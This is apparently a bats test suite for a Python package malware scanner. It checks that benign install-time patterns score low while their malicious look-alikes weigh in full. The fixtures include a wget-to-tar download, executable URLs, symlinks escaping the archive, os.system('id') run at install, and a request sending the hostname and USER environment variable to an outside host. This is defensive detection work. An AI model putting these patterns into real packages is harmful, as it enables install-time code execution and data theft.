#!/usr/bin/env bats
# 48-precision.bats: what real install-heavy sdists do that is not an attack (issue 11), each
# relaxation with the malicious variant that must still weigh in full.

load helpers/common
load helpers/parse
load helpers/analyze
bats_require_minimum_version 1.5.0

setup() { cd "$BATS_TEST_TMPDIR"; mkdir -p pkg/pkg; }

# hits DIR DETECTION: "path line context score" of that detection's hits for the directory.
hits() {
	aura-fetch "$1" | aura-unpack | aura-parse | aura-rewrite | aura-analyze |
		jq -r --arg d "$2" 'select(.type == "hit" and .detection == $d) | "\(.path) \(.line) \(.context) \(.score)"'
}

@test "a signature in a repository script nothing runs takes its unshipped score" {
	mkdir -p pkg/maint/vm
	printf 'from setuptools import setup\nsetup(name="pkg")\n' > pkg/setup.py
	cat > pkg/maint/vm/bootstrap.py <<'PY'
import subprocess
PYTHON = "http://www.python.org/ftp/python/3.6.0/python-3.6.0.msi"
def main():
    subprocess.check_call("wget -q %s -O - | tar xf -" % PYTHON, shell=True)
PY
	run hits pkg ExecutableURL
	assert_output "$(printf 'maint/vm/bootstrap.py 2 function 3\nmaint/vm/bootstrap.py 4 function 3')"
	run hits pkg DownloadAndRun
	assert_output "$(printf 'maint/vm/bootstrap.py 4 function 5\nmaint/vm/bootstrap.py 4 function 5')"
}

@test "look-alike: the same script that setup.py imports, or the package's own module, weighs in full" {
	mkdir -p pkg/tools
	printf 'from setuptools import setup\nimport tools.fetch\nsetup(name="pkg")\n' > pkg/setup.py
	printf 'URL = "http://203.0.113.7/x.exe"\n' > pkg/tools/fetch.py
	printf 'URL = "http://203.0.113.7/y.exe"\n' > pkg/pkg/core.py
	run hits pkg ExecutableURL
	assert_output "$(printf 'pkg/core.py 1 import 50\ntools/fetch.py 1 function 3\ntools/fetch.py 1 install 80')"
}

# links DIR: "detection severity path" of the link hits of a tar.gz of DIR's links.
link_hits() {
	aura-fetch "$1" | aura-unpack | jq -r 'select(.type == "hit") | "\(.detection) \(.severity) \(.path) \(.score)"'
}

@test "a link that stays in the archive and keeps its kind is SymlinkInTree, weighing 2" {
	python3 - <<'PY'
import io, tarfile
with tarfile.open('p-1.0.tar.gz', 'w:gz') as t:
    def add(name, **kw):
        i = tarfile.TarInfo(name)
        for k, v in kw.items():
            setattr(i, k, v)
        data = b'x = 1\n' if i.type == tarfile.REGTYPE else None
        if data:
            i.size = len(data)
        t.addfile(i, io.BytesIO(data) if data else None)
    add('p-1.0/README.txt')
    add('p-1.0/README.rst', type=tarfile.SYMTYPE, linkname='./README.txt')
    add('p-1.0/p/reader_py.py')
    add('p-1.0/p/reader_c.py', type=tarfile.SYMTYPE, linkname='reader_py.py')
    add('p-1.0/p/copy.txt', type=tarfile.LNKTYPE, linkname='p-1.0/README.txt')
PY
	run link_hits p-1.0.tar.gz
	assert_output "$(printf 'SymlinkInTree info p-1.0/README.rst 2\nSymlinkInTree info p-1.0/p/reader_c.py 2\nHardlinkInTree info p-1.0/p/copy.txt 2')"
}

@test "look-alike: a link out of the archive, or code named over data, is a Symlink weighing 20" {
	python3 - <<'PY'
import io, tarfile
with tarfile.open('p-1.0.tar.gz', 'w:gz') as t:
    def add(name, **kw):
        i = tarfile.TarInfo(name)
        for k, v in kw.items():
            setattr(i, k, v)
        data = b'x = 1\n' if i.type == tarfile.REGTYPE else None
        if data:
            i.size = len(data)
        t.addfile(i, io.BytesIO(data) if data else None)
    add('p-1.0/data/blob.txt')
    add('p-1.0/p/__init__.py', type=tarfile.SYMTYPE, linkname='../data/blob.txt')
    add('p-1.0/p/home', type=tarfile.SYMTYPE, linkname='../../../home')
    add('p-1.0/p/run.py', type=tarfile.LNKTYPE, linkname='p-1.0/data/blob.txt')
PY
	run link_hits p-1.0.tar.gz
	assert_output "$(printf 'Symlink low p-1.0/p/__init__.py 20\nSymlink low p-1.0/p/home 20\nHardlink low p-1.0/p/run.py 20')"
}

@test "the evaluator's budget hit in test code or a repository script weighs 2" {
	mkdir -p pkg/tests pkg/bench
	printf 'big = [i for i in range(3000000)]\n' > pkg/tests/test_big.py
	printf 'big = [i for i in range(3000000)]\n' > pkg/bench/run.py
	run bash -c "aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\" and .detection == \"EvaluationBudget\") | \"\(.path) \(.score) \(.severity) \(.context) \(.tags | join(\",\"))\"' | sort -u"
	assert_output "$(printf 'bench/run.py 2 info function obfuscation,not-installed\ntests/test_big.py 2 info function obfuscation,test-code')"
}

@test "look-alike: the same budget hit in the package's own module weighs 20" {
	printf 'big = [i for i in range(3000000)]\n' > pkg/pkg/big.py
	run bash -c "aura-fetch pkg | aura-unpack | aura-parse | aura-rewrite | aura-analyze | jq -r 'select(.type == \"hit\" and .detection == \"EvaluationBudget\") | \"\(.path) \(.score) \(.context)\"' | sort -u"
	assert_output "pkg/big.py 20 null"
}

@test "the interpreter running a script of the package is the package's own file: 10, its code weighed where it runs" {
	mkdir -p pkg/tools
	cat > pkg/setup.py <<'PY'
import os, subprocess, sys
from setuptools import setup
cwd = os.path.dirname(os.path.abspath(__file__))
subprocess.call([sys.executable, os.path.join(cwd, "tools", "cythonize.py"), "pkg/{0}".format("random")])
setup(name="pkg")
PY
	printf 'import sys\ndef main():\n    print(sys.argv)\nif __name__ == "__main__":\n    main()\n' > pkg/tools/cythonize.py
	run hits pkg ProcessExecution
	assert_output "setup.py 4 install 10"
}

@test "look-alike: what the script's main block runs weighs at install time; a script the package lacks, or unknown -c code, in full" {
	mkdir -p pkg/tools
	cat > pkg/setup.py <<'PY'
import os, subprocess, sys
from setuptools import setup
here = os.path.dirname(__file__)
subprocess.check_call([sys.executable, os.path.join(here, "pkg", "build.py")])
subprocess.check_call([sys.executable, os.path.join(here, "tools", "gone.py")])
subprocess.check_call([sys.executable, "-c", sys.argv[1]])	# known -c code: 48c-payload-commands.bats
setup(name="pkg")
PY
	printf 'import os\ndef main():\n    os.system("id")\nif __name__ == "__main__":\n    main()\n' > pkg/pkg/build.py
	run hits pkg ProcessExecution
	assert_output "$(printf 'setup.py 4 install 10\nsetup.py 5 install 10\nsetup.py 6 install 80\nsetup.py 5 install 80')"
	run hits pkg ShellCommand
	assert_output "$(printf 'pkg/build.py 3 function 2\npkg/build.py 3 install 100')"
}

@test "a parameter that shares a module's name (platform.suffix of a record) is no taint source" {
	py m.py <<'PY'
import requests
def fetch(platform, base):
    requests.get(base + "/" + platform.suffix)
fetch(P, "https://nodejs.org/dist")
PY
	run dets m.py Exfiltration
	assert_output ""
}

@test "look-alike: the platform and os modules imported, sent to the network, are Exfiltration" {
	py m.py <<'PY'
import os, platform, requests
def fetch(base):
    requests.get(base + "/" + platform.node + os.environ["USER"])
fetch("https://x.example.net")
PY
	run dets m.py Exfiltration
	assert_output "3 Exfiltration requests.get import 120"
}
